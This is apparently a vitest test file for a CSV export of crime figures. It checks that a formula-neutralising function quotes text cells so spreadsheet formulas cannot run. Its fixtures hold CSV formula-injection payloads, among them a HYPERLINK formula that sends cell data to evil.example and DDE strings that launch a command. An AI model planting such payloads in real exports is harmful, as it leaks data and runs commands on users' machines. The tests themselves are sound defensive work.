import { describe, expect, it } from "vitest";
import { neutraliseFormula } from "./neutralise-formula";
import { figureRows, figuresCsv, type ExportFigure } from "./serialise";

describe("CSV formula injection", () => {
  it.each([
    ["=", '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'],
    ["+", "+cmd|' /C calc'!A0"],
    ["-", "-2+3+cmd|' /C calc'!A0"],
    ["@", "@SUM(1+1)*cmd|' /C calc'!A0"],
    ["tab", "\t=1+1"],
    ["carriage return", "\r=1+1"],
  ])("prefixes a text cell that starts with %s with a single quote", (_name, text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it("leaves ordinary text alone, including a formula character later in the text", () => {
    for (const text of ["Jan–Dec 2021", "Home Office data hub", "a = b", "", "'already quoted"]) expect(neutraliseFormula(text)).toBe(text);
  });

  it("neutralises text cells in data.csv while numbers, negative ones too, stay numbers", () => {
    const figure: ExportFigure = {
      measureName: "Homicide",
      name: "Homicides",
      unit: "COUNT",
      betterWhen: "LOWER_IS_BETTER",
      baselineLabel: "Year ending June 2019",
      baselineValue: 52,
      latestValue: 46,
      baselineStart: null,
      baselineEnd: null,
      periodStart: null,
      periodEnd: null,
      periodNote: '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
      source: "+cmd|' /C calc'!A0",
      noLocalData: false,
      noDataReason: null,
      proxyUsed: null,
      comparisonLabel: "@SUM(A1)",
      comparisonValue: null,
    };
    const csv = figuresCsv(figureRows({ force: "=Force", quarter: "2021-22-Q3", edition: 1 }, [figure]));
    const [, row] = csv.trim().split("\r\n");
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")"`);
    expect(row).toContain(`'+cmd|' /C calc'!A0`);
    expect(row).toContain(`'@SUM(A1)`);
    expect(row!.startsWith("'=Force,2021-22-Q3,1,")).toBe(true);
    // The change (46 against 52) is the number -6, written as a number, not as text.
    expect(row).toMatch(/,-6,-11\.5,better,/);
  });
});
